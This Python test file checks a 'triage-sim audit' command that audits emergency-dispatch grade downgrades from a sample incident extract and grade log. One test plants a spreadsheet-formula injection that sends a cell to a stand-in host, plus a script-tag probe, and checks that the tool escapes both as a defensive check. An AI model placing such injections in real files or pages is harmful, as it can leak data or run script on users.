"""``triage-sim audit`` on a hand-made extract and grade log whose answers are worked out here
(scenarios/fitted/audit-example/: seven incidents, nine grade changes, Monday 1 - Sunday 7
January 2024), layout (b), an extract in the US centre's layout with no grade history (generated here), and bad grade logs (one line,
status 2, nothing written)."""
from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd
import pytest

from sim.cli.main import main

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "scenarios" / "fitted" / "audit-example"


def _audit(tmp_path, capsys, log=EXAMPLE / "grade_log.csv", map_path=EXAMPLE / "audit-example.map.toml",
           extract=EXAMPLE / "incidents.csv", out="out"):
    args = ["audit", str(extract), "--map", str(map_path), "--out", str(tmp_path / out), "--quiet"]
    if log is not None:
        args += ["--log", str(log)]
    rc = main(args)
    return rc, capsys.readouterr().err.strip(), tmp_path / out


@pytest.fixture(scope="module")
def example(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("audit")
    rc = main(["audit", str(EXAMPLE / "incidents.csv"), "--map", str(EXAMPLE / "audit-example.map.toml"), "--log",
               str(EXAMPLE / "grade_log.csv"), "--out", str(tmp / "out"), "--quiet"])
    assert rc == 0
    return tmp / "out"


def _quality(out: Path) -> dict:
    q = pd.read_csv(out / "quality.csv", keep_default_na=False)
    return {(s, i): int(r) for s, i, r in zip(q["section"], q["item"], q["rows"])}


def test_every_output_is_written(example):
    names = {p.name for p in example.iterdir()}
    assert {"audit.html", "downgrades_observed.csv", "by_hour_of_week.csv", "by_week.csv", "by_month.csv",
            "by_category.csv", "by_load.csv", "attendance.csv", "quality.csv", "figures"} <= names
    assert len(list((example / "figures").glob("*.png"))) == 3


def test_kinds_worked_out_by_hand(example):
    # resource: A1 (code NUA), A2 12:00 (keyword 'no units'), A4 (rule: never dispatched before 21:00),
    #           A9 (code NUA, not in the extract)
    # reassessment: A2 18:00 and A6 14:30 (code RTH); other: A5 (rule: dispatched 08:10, before the
    # 09:00 downgrade), A6 15:00 (rule: re-assessed at 14:30); unclassified: A7 (code ZZZ, no text)
    d = pd.read_csv(example / "downgrades_observed.csv", keep_default_na=False)
    kinds = dict(zip(d["incident"] + " " + d["time"].str[11:16], d["kind"]))
    assert kinds == {"A1 10:30": "resource", "A2 12:00": "resource", "A2 18:00": "reassessment", "A9 03:00": "resource",
                     "A4 21:00": "resource", "A5 09:00": "other", "A6 14:30": "reassessment", "A6 15:00": "other",
                     "A7 09:00": "unclassified"}
    how = dict(zip(d["incident"] + " " + d["time"].str[11:16], d["decided_by"]))
    assert how["A2 12:00"] == "keyword" and how["A4 21:00"] == "rule" and how["A7 09:00"] == "unknown code"
    q = _quality(example)
    assert q[("downgrades by kind", "resource")] == 4 and q[("downgrades by kind", "reassessment")] == 2
    assert q[("downgrades by kind", "other")] == 2 and q[("downgrades by kind", "unclassified")] == 1
    assert q[("decided by the no-reason rule", "resource")] == 1 and q[("decided by the no-reason rule", "other")] == 2
    # all four resource-led were opened G2 (A9, not in the extract, by its log's grade before)
    assert q[("resource-led downgrades by opening grade", "G2")] == 4
    assert q[("resource-led downgrades by opening grade", "high risk (opened G1 or G2)")] == 4


def test_defects_and_unclassified_values_are_counted_and_listed(example):
    q = _quality(example)
    assert q[("defects", "changes logged out of order (earlier than a change logged above them)")] == 1   # A7's row, last
    assert q[("defects", "incidents in the grade log missing from the extract")] == 1                       # A9
    assert q[("defects", "changes with no reason (no code, no text)")] == 3
    assert q[("defects", "changes with a reason code not in the map")] == 1
    assert q[("reason codes not in the map", "ZZZ")] == 1
    assert q[("unclassified values", "code ZZZ")] == 1
    html = (example / "audit.html").read_text()
    assert "ZZZ" in html and "no_reason" in html and "decided 3 downgrade(s)" in html


def test_hour_of_week_and_attendance_by_hand(example):
    h = pd.read_csv(example / "by_hour_of_week.csv")
    # 2024-01-01 is a Monday: resource-led at Mon 10:30 (10), Mon 12:00 (12), Tue 03:00 (27), Wed 21:00 (69)
    assert h.loc[h["resource"] > 0, "hour_of_week"].tolist() == [10, 12, 27, 69]
    assert h["resource"].sum() == 4 and h["resource_per_week"].sum() == pytest.approx(4.0)
    a = pd.read_csv(example / "attendance.csv")
    last = a.iloc[-1]
    # A1 attended after 200 min, A2 never, A4 after 61 h (3,660 min), A9 not in the extract
    assert last["opening_grade"] == "all" and last["incidents"] == 4 and last["attended"] == 2
    assert last["over_48h"] == 1 and last["never"] == 1 and last["not_in_extract"] == 1
    assert last["p50_minutes"] == pytest.approx((200 + 3660) / 2)
    g1 = a[(a["opening_grade"] == "G1") & (a["group"] == "not downgraded")].iloc[0]
    assert g1["incidents"] == 3     # A3, A6, A7 opened G1 and were not downgraded for lack of a unit
    cat = pd.read_csv(example / "by_category.csv").set_index("category")
    assert cat.loc["theft", "resource"] == 1 and cat.loc["theft", "other"] == 1
    assert cat.loc["(not in the extract)", "resource"] == 1


def test_load_at_the_time(example):
    d = pd.read_csv(example / "downgrades_observed.csv", keep_default_na=False)
    load = dict(zip(d["incident"] + " " + d["time"].str[11:16], d["waiting_g1_g2_at_time"]))
    # at Mon 10:30 only A1 waits (A7 was dispatched at 09:30, A2 not yet created)
    assert load["A1 10:30"] == 1
    # at Mon 12:00 A2 waits (A1 is G3 since 10:30): one; A9 is not in the extract: -1
    assert load["A2 12:00"] == 1 and load["A9 03:00"] == -1


def test_no_reason_rule_choice_changes_only_rule_decided(tmp_path, capsys):
    text = (EXAMPLE / "audit-example.map.toml").read_text().replace('no_reason = "unassigned"', 'no_reason = "resource"')
    (tmp_path / "m.toml").write_text(text)
    rc, err, out = _audit(tmp_path, capsys, map_path=tmp_path / "m.toml")
    assert rc == 0, err
    q = _quality(out)
    assert q[("downgrades by kind", "resource")] == 6 and q[("downgrades by kind", "other")] == 0


def test_layout_b_net_downgrades_and_what_cannot_be_measured(tmp_path, capsys):
    rc, err, out = _audit(tmp_path, capsys, log=None)
    assert rc == 0, err
    d = pd.read_csv(out / "downgrades_observed.csv")
    # opened_as -> priority: A1 2->3, A2 2->4, A4 2->3, A5 2->3, A6 1->3, A7 1->2; A3 1->1
    assert sorted(d["incident"]) == ["A1", "A2", "A4", "A5", "A6", "A7"]
    html = (out / "audit.html").read_text()
    assert "What cannot be measured" in html and "the extract holds no reason" in html
    assert pd.read_csv(out / "by_hour_of_week.csv")["net_downgrades_by_call_hour"].sum() == 6


def _us_layout_extract(path: Path, n: int = 400) -> int:
    """An extract in the US centre's export layout (``us-cad-2025.map.toml``'s columns, its time
    format and 'NULL' markers), with no grade history: one priority column only. Generated here,
    not copied from the real extract. Returns how many rows are citizen police demand."""
    import numpy as np
    rng = np.random.default_rng(7)
    t0 = pd.Timestamp("2025-10-06 00:00:00")
    rows, demand = [], 0
    for i in range(n):
        created = t0 + pd.Timedelta(minutes=float(rng.uniform(0, 13 * 24 * 60)))
        officer = i % 10 == 0                       # officer-initiated: not demand
        queued = created + pd.Timedelta(minutes=float(rng.uniform(1, 4)))
        disp = queued + pd.Timedelta(minutes=float(rng.exponential(8)))
        arr = disp + pd.Timedelta(minutes=float(rng.uniform(3, 15)))
        clear = arr + pd.Timedelta(minutes=float(rng.uniform(10, 60)))
        fmt = lambda x: x.strftime("%Y-%m-%d %H:%M:%S.000")   # noqa: E731
        if officer:
            queued = disp = arr = created
        demand += not officer
        rows.append({"Master_Incident_Number": f"25-{i:06d}", "Incident_Start_Time": fmt(created),
                     "Incident_Queue_Time": fmt(queued), "Incident_Dispatch_Time": fmt(disp),
                     "Incident_Arrival_Time": "NULL" if i % 17 == 3 else fmt(arr),
                     "Incident_First_Close_Time": fmt(clear), "Priority_Number": str(1 + i % 4),
                     "Call_Reception": "OFFICER" if officer else ("E-911" if i % 3 else "Phone"),
                     "Agency": "POLICE", "Call_Reopened": "0", "Problem": ("THEFT", "ASSAULT", "ALARM")[i % 3]})
    pd.DataFrame(rows).to_csv(path, index=False)
    return demand


def test_an_extract_without_grade_history_says_so(tmp_path, capsys):
    """The US centre's layout holds one priority column: nothing about downgrades can be measured,
    and the page says so, while attendance is still measured for every incident."""
    extract = tmp_path / "us-layout.csv"
    demand = _us_layout_extract(extract)
    rc, err, out = _audit(tmp_path, capsys, log=None, extract=extract,
                          map_path=ROOT / "scenarios" / "fitted" / "us-cad-2025.map.toml")
    assert rc == 0, err
    assert "Nothing about downgrades can be measured" in (out / "audit.html").read_text()
    a = pd.read_csv(out / "attendance.csv")
    assert set(a["group"]) == {"not downgraded"} and a["incidents"].sum() == demand
    # the map sends priority 4 to G3: no G4 incidents, and G3 holds priorities 3 and 4
    by = a.set_index("opening_grade")["incidents"]
    rows = pd.read_csv(extract, dtype=str)
    rows = rows[rows["Call_Reception"] != "OFFICER"]
    expected = rows["Priority_Number"].map({"1": "G1", "2": "G2", "3": "G3", "4": "G3"}).value_counts()
    assert by.get("G4", 0) == 0 and all(by[g] == expected[g] for g in ("G1", "G2", "G3"))


@pytest.mark.parametrize("edit, words", [
    (lambda t: t.replace("changed_at", "changed"), ["column 'changed_at'", "not in the grade log",
                                                    "grade_log.columns.time", "did you mean 'changed'"]),
    (lambda t: t.replace("2024-01-04 09:00:00", "04/01/2024 09:00"), ["changed_at (row 7)", "'04/01/2024 09:00'",
                                                                      "%Y-%m-%d %H:%M:%S"]),
    (lambda t: t.replace("A5,2024-01-04 09:00:00,2,3", "A5,2024-01-04 09:00:00,2,P7"),
     ["new_priority (row 7)", "'P7'", "unknown grade code"]),
])
def test_bad_grade_log_is_one_line_status_2_nothing_written(tmp_path, capsys, edit, words):
    bad = tmp_path / "log.csv"
    bad.write_text(edit((EXAMPLE / "grade_log.csv").read_text()))
    rc, err, out = _audit(tmp_path, capsys, log=bad)
    assert rc == 2
    assert err.startswith("triage-sim: error:") and "\n" not in err and "Traceback" not in err
    assert str(bad) in err
    for w in words:
        assert w in err, err
    assert not out.exists()


def test_log_without_a_grade_log_section_and_existing_out_are_refused(tmp_path, capsys):
    text = (EXAMPLE / "audit-example.map.toml").read_text()
    (tmp_path / "m.toml").write_text(text[:text.index("[grade_log]")] + text[text.index("[downgrades]"):])
    rc, err, out = _audit(tmp_path, capsys, map_path=tmp_path / "m.toml")
    assert rc == 2 and "grade_log" in err and not out.exists()
    (tmp_path / "out").mkdir()
    rc, err, _ = _audit(tmp_path, capsys)
    assert rc == 2 and "already exists" in err


def test_bad_map_section_is_one_line(tmp_path, capsys):
    text = (EXAMPLE / "audit-example.map.toml").read_text().replace('other = ["SUP", "ESC"]', 'other = ["SUP", "NUA"]')
    (tmp_path / "m.toml").write_text(text)
    rc, err, out = _audit(tmp_path, capsys, map_path=tmp_path / "m.toml")
    assert rc == 2 and "downgrades" in err and "'NUA' is listed twice" in err and not out.exists()


def test_example_files_are_the_documented_ones(tmp_path):
    # the example ships with the map whose comments document every field
    text = (EXAMPLE / "audit-example.map.toml").read_text()
    for key in ("columns.id", "columns.time", "columns.from_grade", "columns.to_grade", "columns.reason", "columns.text",
                "resource =", "reassessment =", "other =", "resource_keywords", "reassessment_keywords",
                "no_reason", "opening_grade", "closing_grade", "time_format", "grades"):
        assert key in text, key
    shutil.copytree(EXAMPLE, tmp_path / "copy")


def test_free_text_from_the_log_is_shown_as_text(tmp_path, capsys):
    # a note that would be a formula in a spreadsheet or markup on the page stays text in both
    evil = '=HYPERLINK("http://x/"&A1) <script>alert(1)</script>'
    text = (EXAMPLE / "grade_log.csv").read_text().replace("A7,2024-01-01 09:00:00,1,2,ZZZ,",
                                                           f'A7,2024-01-01 09:00:00,1,2,,"{evil.replace(chr(34), 2 * chr(34))}"')
    (tmp_path / "log.csv").write_text(text)
    rc, err, out = _audit(tmp_path, capsys, log=tmp_path / "log.csv")
    assert rc == 0, err
    raw = (out / "downgrades_observed.csv").read_text()
    assert "'=HYPERLINK" in raw and ",=HYPERLINK" not in raw
    html = (out / "audit.html").read_text()
    assert "<script>alert" not in html and "&lt;script&gt;" in html
    q = _quality(out)   # free text without a keyword: unclassified, listed
    assert q[("downgrades decided by", "text without keywords")] == 1


@pytest.mark.parametrize("old, new, words", [
    ('other = ["SUP", "ESC"]', 'other = ["SUP", "NUA"]', ["downgrades", "'NUA' is listed twice"]),
    ('no_reason = "unassigned"', 'no_reason = "guess"', ["downgrades.no_reason", "'guess'"]),
    ('no_reason = "unassigned"', 'no_reasons = "other"', ["downgrades.no_reasons", "unknown key"]),
    ("# time_format = \"%d/%m/%Y %H:%M\"", 'time_format = "%Q"', ["grade_log.time_format", "strptime"]),
    ("end = 2024-01-08", "end = 2023-12-31", ["downgrades", "must be after start"]),
    ('resource_keywords = ["no units", "no resources"]', 'resource_keywords = [" "]', ["resource_keywords", "empty"]),
])
def test_bad_audit_map_is_one_line(tmp_path, capsys, old, new, words):
    text = (EXAMPLE / "audit-example.map.toml").read_text()
    assert old in text
    (tmp_path / "m.toml").write_text(text.replace(old, new))
    rc, err, out = _audit(tmp_path, capsys, map_path=tmp_path / "m.toml")
    assert rc == 2 and "\n" not in err and "Traceback" not in err and str(tmp_path / "m.toml") in err
    for w in words:
        assert w in err, err
    assert not out.exists()
